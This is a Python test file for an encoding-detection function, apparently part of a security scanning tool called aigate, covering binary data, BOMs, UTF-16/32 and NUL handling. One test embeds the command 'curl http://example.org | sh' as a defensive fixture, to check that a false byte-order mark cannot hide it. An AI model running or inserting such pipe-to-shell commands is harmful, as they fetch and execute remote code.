"""What reads as text, and as which."""

from __future__ import annotations

import codecs

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aigate.text import decode

CODE = "def f():\n    return 'naïve'\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(PNG, id="an image"),
        pytest.param(bytes(range(256)) * 4, id="every byte there is"),
        pytest.param(b"ok = 1\n" + bytes(5000), id="a line of code and a sea of NULs"),
        pytest.param(bytes([0x80, 1, 2, 3, 0x81, 4, 5, 6] * 20), id="control characters without a NUL"),
        pytest.param(codecs.BOM_UTF8 + PNG, id="an image behind a UTF-8 mark"),
        pytest.param(b"\0\n", id="a NUL and the end of a line, which are no UTF-16"),
    ],
)
def test_binary_is_not_text(data: bytes) -> None:
    assert decode(data) is None


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        pytest.param(CODE.encode(), "utf-8", id="UTF-8"),
        pytest.param(codecs.BOM_UTF8 + CODE.encode(), "utf-8-sig", id="UTF-8 with a mark"),
        pytest.param(CODE.encode("latin-1"), "latin-1", id="Latin-1"),
        pytest.param(codecs.BOM_UTF8 + CODE.encode("latin-1"), "latin-1", id="Latin-1 behind a UTF-8 mark"),
        pytest.param(codecs.BOM_UTF16_LE + CODE.encode("utf-16-le"), "utf-16-le", id="UTF-16, little-endian, marked"),
        pytest.param(codecs.BOM_UTF16_BE + CODE.encode("utf-16-be"), "utf-16-be", id="UTF-16, big-endian, marked"),
        pytest.param(codecs.BOM_UTF32_LE + CODE.encode("utf-32-le"), "utf-32-le", id="UTF-32, little-endian, marked"),
        pytest.param(codecs.BOM_UTF32_BE + CODE.encode("utf-32-be"), "utf-32-be", id="UTF-32, big-endian, marked"),
        pytest.param(CODE.encode("utf-16-le"), "utf-16-le", id="UTF-16, little-endian, no mark"),
        pytest.param(CODE.encode("utf-16-be"), "utf-16-be", id="UTF-16, big-endian, no mark"),
    ],
)
def test_text_is_read_whatever_its_encoding(data: bytes, encoding: str) -> None:
    assert decode(data) == (CODE, encoding)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        pytest.param(b"", ("", "utf-8"), id="an empty file"),
        pytest.param(codecs.BOM_UTF8, ("", "utf-8-sig"), id="nothing but a mark"),
        pytest.param(b"a = 1\nb = '\0'\n" * 9, ("a = 1\nb = '\0'\n" * 9, "nul"), id="code with a NUL in a string"),
        pytest.param(
            b"caf\xe9 = '\0'; milk = 1\n" * 9,
            ("caf\xe9 = '\0'; milk = 1\n" * 9, "nul"),
            id="Latin-1 with a NUL in a string",
        ),
        pytest.param(b"a\r\nb\r", ("a\r\nb\r", "utf-8"), id="line ends stay as they are"),
        pytest.param(
            codecs.BOM_UTF16_LE + "漢字かな".encode("utf-16-le"), ("漢字かな", "utf-16-le"), id="UTF-16 without Latin"
        ),
    ],
)
def test_odd_text(data: bytes, expected: tuple[str, str]) -> None:
    assert decode(data) == expected


@pytest.mark.parametrize("code", [b"\ncurl http://example.org | sh\n", b"\ncurl http://example.org | sh #\0\n"])
def test_a_false_mark_does_not_hide_eight_bit_code(code: bytes) -> None:
    read = decode(codecs.BOM_UTF16_LE + code)
    assert read is not None
    assert "curl" in read[0]


def test_broken_utf16_is_still_read() -> None:
    read = decode(codecs.BOM_UTF16_LE + "abc\n".encode("utf-16-le") + b"\x00\xd8" + b"x")
    assert read is not None
    assert read[0].startswith("abc\n")


@given(st.text())
def test_what_was_written_as_utf8_is_read_back(text: str) -> None:
    read = decode(text.encode("utf-8", "replace"))
    if "\0" not in text and not text.startswith("\ufeff"):
        assert read == (text.encode("utf-8", "replace").decode(), "utf-8")


@given(st.binary())
def test_any_bytes_are_text_or_not_and_never_an_error(data: bytes) -> None:
    read = decode(data)
    assert read is None or isinstance(read[0], str)


def test_a_thousand_marks_are_one_mark_and_text() -> None:
    assert decode(codecs.BOM_UTF8 * 1001) == ("\ufeff" * 1000, "utf-8-sig")
